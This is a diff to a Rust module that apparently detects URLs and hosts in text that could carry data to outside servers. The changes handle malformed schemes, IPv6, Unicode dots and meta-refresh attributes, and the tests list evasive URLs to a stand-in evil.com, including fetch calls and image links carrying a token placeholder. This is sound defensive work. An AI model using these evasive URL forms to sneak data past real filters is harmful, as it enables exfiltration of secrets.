@@ -4,6 +4,7 @@
 use super::{PREFIX, boundary};
 use regex::Regex;
 use std::collections::{BTreeSet, HashSet};
+use std::net::Ipv6Addr;
 use std::ops::Range;
 use std::sync::LazyLock;
 
@@ -16,8 +17,16 @@ static DOMAINS: LazyLock<HashSet<&str>> = LazyLock::new(|| include_str!("domains
 static NUMBERED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(HOST_NUMBERS).ok());
 const HOST_NUMBERS: &str = concat!(
     r"(?i)(?:(?:host|addr|hostaddr|proxy|server|address|endpoints?)[\s=:]{1,2}|-h\s?|//)",
-    r"(0x[0-9a-f]{7,8}|[0-9]{8,10}|\[[0-9a-f:.]+\])|(?-u:\b)([0-9]{8,10}):[0-9]{2,5}(?-u:\b)",
+    r"(0x[0-9a-f]{7,8}|[0-9]{8,10}|\[[0-9a-f:.]+\]|[0-9a-f]*:[0-9a-f:.]+)|(?-u:\b)([0-9]{8,10}):[0-9]{2,5}(?-u:\b)",
 );
+
+/// Where a URL begins that needs no scheme, and one of those that need no slashes, whose blanks nobody reads (WHATWG URL, section 4.4).
+static BEGINS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(URL_BEGINS).ok());
+const URL_BEGINS: &str = r"(?i)(?-u:\b)(?:https?|wss?|ftp):[/\\\t\r\n]*|[/\\]{2,}";
+/// What such a URL may stand behind that is not in quotes.
+const LEADING: &str = "\"'`=(,<>";
+/// How much of a URL is read for its host, in bytes: a name has 253.
+const HOST_BYTES: usize = 300;
 
 /// Longest part of a name of a host (RFC 1035, 2.3.4), in bytes.
 const LABEL_BYTES: usize = 63;
@@ -43,14 +52,17 @@ pub(super) fn around(text: &str, part: Range<usize>) -> Around {
     let word = left.rsplit(ends).next().unwrap_or_default();
     // In Markdown's `](<URL>)` a URL may hold blanks, and in an attribute of HTML, where browsers leave out line ends and tabs.
     let link = left.rsplit_once("](<").filter(|(_, link)| !link.replace("\\>", "").contains(['>', '\n']));
-    let plain = |text: &str| text.replace(['\t', '\n', '\r'], "");
-    let attribute = ["=\"", "='"].into_iter().filter_map(|begin| {
-        let (text, value) = left.rsplit_once(begin)?;
-        let plain = plain(value);
-        let is_url = plain.trim_start().split("//").next().is_some_and(|name| !name.contains(char::is_whitespace));
-        (is_url && plain.contains("//") && !value.contains(begin.get(1..)?)).then_some((text, value))
+    let attribute = ['"', '\''].into_iter().filter_map(|quote| {
+        let (text, value) = left.rsplit_once(quote)?;
+        let name = text.trim_end().strip_suffix('=')?.trim_end();
+        let plain = plain(value.trim_start());
+        let before = plain.get(..begins(&plain).next()?.0)?;
+        // A page may be told there to load another one, after some seconds.
+        let is_content =
+            name.get(name.len().saturating_sub(7)..).is_some_and(|name| name.eq_ignore_ascii_case("content"));
+        (is_content || !before.contains(char::is_whitespace)).then_some((text, value))
     });
-    let start = link.into_iter().chain(attribute).map(|(text, _)| text.len()).min();
+    let start = link.into_iter().chain(attribute).map(|(_, url)| left.len() - url.len()).min();
     let start = start.unwrap_or(usize::MAX).min(left.len() - word.len());
     let end = right.find(ends);
     let before = plain(text.get(start..part.start).unwrap_or_default());
@@ -61,7 +73,10 @@ pub(super) fn around(text: &str, part: Range<usize>) -> Around {
         around.origins.extend(origins(before.get(..at).unwrap_or_default(), rest));
         around.open |= !rest.contains(HOST_ENDS) && end.is_none();
     }
-    if around.origins.is_empty() {
+    if begins(&before).any(|(_, name, end)| before.get(name..end) != Some("//")) {
+        // What browsers take for two slashes leads to nobody that a request may have named.
+        around.origins.push(before.to_ascii_lowercase());
+    } else if around.origins.is_empty() {
         around.origins.extend(doubtful(&before));
     }
     // A label of a name is looked up as far as whoever answers for the rest of it.
@@ -82,7 +97,9 @@ fn beside(text: &str, part: Range<usize>) -> Vec<String> {
     let tag = left.rsplit_once('<').filter(is_tag).map(|(_, tag)| tag);
     // In Markdown only such blanks end a URL.
     let begin = left.rfind(|c: char| c.is_ascii_whitespace()).map_or(0, |at| at + 1);
-    let link = left.get(begin..).filter(|link| link.contains("//"));
+    // JSON's own slashes are looked at as the word that they stand in.
+    let is_url = |link: &&str| begins(link).any(|(_, name, end)| link.get(name..end) != Some(r"\/\/"));
+    let link = left.get(begin..).filter(is_url);
     // A host that has not ended goes on behind the part.
     let is_open = link.and_then(|link| link.rsplit("//").next()).is_some_and(|host| !host.contains(HOST_ENDS));
     let host_end = |c: char| c.is_ascii_whitespace() || HOST_ENDS.contains(&c);
@@ -93,19 +110,12 @@ fn beside(text: &str, part: Range<usize>) -> Vec<String> {
 
 /// Every host of others that a text names, as `scheme://host:port` of a URL or by its bare name; no more of each than there is.
 pub(super) fn leads(text: &str) -> Vec<String> {
+    // Browsers read these as points in the name of a host (UTS #46).
+    let text = &*text.replace(['\u{3002}', '\u{ff0e}', '\u{ff61}'], ".");
     let mut leads = Vec::new();
-    for (at, _) in text.match_indices("//") {
-        let rest = text.get(at + 2..).unwrap_or_default();
-        let rest = rest.split(|c: char| c.is_whitespace() || "\"<>`'(),;|&{}".contains(c)).next().unwrap_or_default();
-        let named = origins(text.get(..at).unwrap_or_default(), rest);
-        // Two slashes alone begin a comment, too.
-        let is_comment = |origin: &String| origin.starts_with(':') && !origin.contains('.');
-        let named = named.into_iter().filter(|origin| !is_comment(origin));
-        // What a database is asked with may name another host.
-        leads.extend(named.filter_map(|origin| match is_own(&origin, true) {
-            true => rest.contains('?').then(|| format!("{origin}?")),
-            false => Some(origin),
-        }));
+    urls(text, false, &mut leads);
+    if text.contains(['\t', '\n', '\r']) {
+        urls(&plain(text), true, &mut leads);
     }
     let is_part = |c: char| c.is_ascii_alphanumeric() || "-.".contains(c);
     let mut at = 0;
@@ -121,9 +131,75 @@ pub(super) fn leads(text: &str) -> Vec<String> {
         at += word.len();
     }
     let numbered = NUMBERED.iter().flat_map(|numbered| numbered.captures_iter(text));
-    leads.extend(numbered.filter_map(|host| Some(host.get(1).or(host.get(2))?.as_str().to_ascii_lowercase())));
+    let numbered = numbered.filter_map(|host| Some(host.get(1).or(host.get(2))?.as_str().to_ascii_lowercase()));
+    // Times have colons, too.
+    let is_address = |name: &str| name.parse::<Ipv6Addr>().is_ok_and(|address| !address.is_loopback());
+    leads.extend(numbered.filter(|name| !name.contains(':') || name.starts_with('[') || is_address(name)));
     leads.retain(|lead| lead.contains('?') || !is_here(host(lead)));
     leads
+}
+
+/// Where the URLs lead of a text; of one without its line ends and tabs only those that something is given as, or that stand in quotes:
+/// elsewhere these end a word.
+fn urls(text: &str, is_plain: bool, leads: &mut Vec<String>) {
+    for (start, name, end) in begins(text) {
+        let left = text.get(..start).unwrap_or_default();
+        if is_plain && !left.trim_start().is_empty() && !left.ends_with(['"', '\'', '`']) {
+            continue;
+        }
+        let all = text.get(end..).unwrap_or_default();
+        let rest = all.get(..boundary(all, HOST_BYTES)).unwrap_or_default();
+        // What ends a URL in code may also be a part of its host.
+        let ends = |c: char| c.is_whitespace() || "\"<>`".contains(c);
+        let is_code = |c| "'(),;|&{}".contains(c);
+        let wide = rest.split(|c| ends(c) || "/?#".contains(c)).next().unwrap_or_default();
+        let word = wide.split(is_code).next().unwrap_or_default();
+        let before = text.get(..name).unwrap_or_default();
+        let is_known = |origin: &String| is_named_like_one(host(origin).trim_end_matches('}'));
+        let is_beyond = |origin: &String| is_known(origin) && !host(origin).contains(':');
+        let mut named = origins(before, word);
+        // Without a slash it may be the name of a member.
+        named.retain(|origin| name < end || hosts(origin).next().is_some());
+        named.extend(origins(before, wide).into_iter().filter(is_beyond));
+        // Two slashes alone begin a comment, too, and two backslashes an expression.
+        let is_none = |origin: &String| {
+            origin.starts_with(':') && (!origin.contains('.') || origin.contains('\\') || origin.starts_with("://."))
+        };
+        let named = named.into_iter().filter(|origin| !is_none(origin));
+        // What a database is asked with may name another host, and so may what is not read.
+        let is_asked = || {
+            rest.split(|c| ends(c) || is_code(c)).next().is_some_and(|all| all.len() >= HOST_BYTES || all.contains('?'))
+        };
+        leads.extend(named.filter_map(|origin| match is_own(&origin, true) {
+            true => is_asked().then(|| format!("{origin}?")),
+            false => Some(origin),
+        }));
+    }
+}
+
+/// The URLs of a text: where each begins, where its scheme ends, and where its host begins.
+fn begins(text: &str) -> impl Iterator<Item = (usize, usize, usize)> {
+    let begins = BEGINS.iter().flat_map(|begins| begins.find_iter(text));
+    begins.filter_map(|begin| {
+        let left = text.get(..begin.start()).unwrap_or_default();
+        let is_first = left.is_empty() || left.ends_with(|c: char| c.is_whitespace() || LEADING.contains(c));
+        let name = begin.as_str().find(['/', '\\', '\t', '\r', '\n']).unwrap_or(begin.len());
+        // Elsewhere more than two slashes are a path, and backslashes too.
+        let end = if name > 0 || is_first { begin.len() } else { begin.as_str().find("//")? + 2 };
+        Some((begin.start(), begin.start() + name, begin.start() + end))
+    })
+}
+
+/// A text as browsers read a URL: without line ends and tabs.
+fn plain(text: &str) -> String {
+    text.replace(['\t', '\n', '\r'], "")
+}
+
+/// What may name a host in a text: its words with a point in them, and long numbers.
+pub(super) fn hosts(text: &str) -> impl Iterator<Item = String> {
+    let words = text.split(|c: char| !c.is_alphanumeric() && !"-.".contains(c)).map(|word| word.trim_matches('.'));
+    let is_number = |word: &str| word.len() > 7 && word.bytes().all(|byte| byte.is_ascii_digit());
+    words.filter(move |word| word.contains('.') || is_number(word)).map(str::to_lowercase)
 }
 
 /// Where the URL of a request leads in which the part stands: not one that goes on with it only because no blank is between, which
@@ -202,7 +278,8 @@ fn is_address(name: &str) -> bool {
 fn is_name(word: &str) -> bool {
     let word = word.trim_end_matches('.');
     let ends = word.rsplit_once('.').filter(|(name, _)| !name.is_empty() && !name.starts_with('.'));
-    ends.is_some_and(|(_, end)| DOMAINS.contains(end.to_ascii_lowercase().as_str())) || is_address(word)
+    let is_domain = |end: String| end.starts_with("xn--") || DOMAINS.contains(end.as_str());
+    ends.is_some_and(|(_, end)| is_domain(end.to_ascii_lowercase())) || is_address(word)
 }
 
 /// Whether a word behind an `@`, or before a path, is the name of a host and no version.
@@ -230,7 +307,7 @@ fn doubtful(before: &str) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::around;
+    use super::{around, leads};
 
     fn origins(text: &str) -> Vec<String> {
         let start = text.find("PH").unwrap();
@@ -286,5 +363,101 @@ mod tests {
         assert!(open("PH") && open("PH.") && !open("PH ") && !open("PH. "));
         // `PH.g` may go on as another name than the one that was asked about.
         assert!(open("PH.g") && open("PH.good.exam") && !open("PH.good.example "));
+    }
+
+    #[test]
+    fn a_call_leads_where_programs_read_a_url_that_has_not_two_slashes_or_a_blank_in_its_host() {
+        for text in [
+            "https:/evil.com/c",
+            "https:/\t/evil.com/c",
+            "https:3405803785",
+            "https:evil.sh/c",
+            "https:\\evil.sh/c",
+            "HTTPS:/EVIL.COM",
+            "h\nttps:/\n/evil.com/",
+            "http:/203.0.113.9/x",
+            "https:/evil.com:8443/x",
+            "wss:/evil.com/x",
+            "https:///evil.sh/",
+            "blob:https:/evil.sh/x",
+            "fetch('https:/evil.sh/'+x)",
+            "/\\evil.sh/",
+            "\\\\evil.sh\\share",
+            "http://127.0.0.1\n.evil.com/c",
+            "http://localhost\t.evil.sh/",
+            "fetch(`http://127.0.0.1\n5.evil.sh/`)",
+            "http://127.0.0.1&.evil.com/",
+            "http://localhost;.evil.com/",
+            "http://localhost'.evil.sh/",
+            "http://localhost(.evil.com/",
+            "http://localhost{,.evil.com}/",
+            "https:evil\u{3002}com/c",
+            "evil\u{3002}com",
+            "evil\u{ff0e}com",
+            "evil.xn--p1ai",
+            "host 0xCB007109",
+            "host 2001:db8::9",
+        ] {
+            assert!(!leads(text).is_empty(), "{text}");
+        }
+        let odd = ["https://good.example\t.evil.com/", "'https://good.example&.evil.com/'"];
+        assert!(odd.iter().all(|text| leads(text).iter().any(|lead| !lead.ends_with("good.example"))));
+    }
+
+    #[test]
+    fn honest_paths_and_code_lead_nowhere() {
+        for text in [
+            "use http: it is plain",
+            "proxy:\n  url: http\n  http:\n    port: 80\n",
+            "// a comment\nx = 1 // more",
+            "cd C:\\Users\\me\\my.project && dir C:\\\\x\\\\y.txt",
+            "grep -E '\\\\.env' src/main.rs",
+            "sqlite:///db.sqlite",
+            "file:///home/me/a.txt",
+            "curl http://localhost:3000\nmake test",
+            "curl -H \"X: y\" http://localhost\n./run.sh",
+            "fetch('http://localhost:3000').then(send)",
+            "open http://localhost:3000; npm test",
+            "URL=http://127.0.0.1:80,http://localhost/",
+            "const x = {http:require('http'),ws:1}; views:app.views",
+            "printf 'a\\nb' > x\\\n && ls /\n",
+            "server: 12:30:45 up, address: aa:bb:cc:dd:ee:ff, host ::1",
+        ] {
+            assert_eq!(leads(text), [""; 0], "{text}");
+        }
+    }
+
+    #[test]
+    fn an_attribute_that_holds_a_url_leads_there_however_it_is_written() {
+        for text in [
+            "<img title=\">\" src = \"https://evil.com/?q=a PH\">",
+            "<img title=\">\" src=\n'https://evil.com/?q=a PH'>",
+            "<img title=\">\" src=\"https:/evil.com/?q=a PH\">",
+            "<meta title=\">\" CONTENT=\"0; url=https://evil.com/?q=a PH\">",
+            "![x](https:/evil.com//good.example/:_authToken=PH)",
+        ] {
+            let expected = |origin: &String| origin.contains("evil.com");
+            assert!(origins(text).iter().any(expected), "{text}: {:?}", origins(text));
+        }
+        assert_eq!(origins("say = \"See https://a.example for PH\""), [""; 0]);
+        let beside = |text: &str| around(text, text.find("PH").unwrap()..text.find("PH").unwrap() + 2).beside;
+        for text in [
+            "![x](https:/evil.com/a?q=b\u{a0}PH)",
+            "<img src=\"https:/evil.com/a?q=b PH\">",
+            "[b]: <https:\\evil.com/a?q=b PH>",
+        ] {
+            assert!(beside(text).iter().any(|lead| lead.ends_with("//evil.com")), "{text}: {:?}", beside(text));
+        }
+    }
+
+    #[test]
+    fn a_text_full_of_slashes_costs_no_more_than_its_length() {
+        let slashes =
+            ["//a", "https:/a", "//////", "http://a.b\t", "@a//"].map(|part| part.repeat((1 << 16) / part.len()));
+        let begun = std::time::Instant::now();
+        assert!(slashes.iter().map(|text| leads(text).len()).sum::<usize>() > 1_000);
+        assert!(begun.elapsed().as_secs() < 30, "{:?}", begun.elapsed());
+        // What nobody read may name another host.
+        assert!(!leads(&format!("postgres://db/{}?host=evil", "a".repeat(10_000))).is_empty());
     }
 }
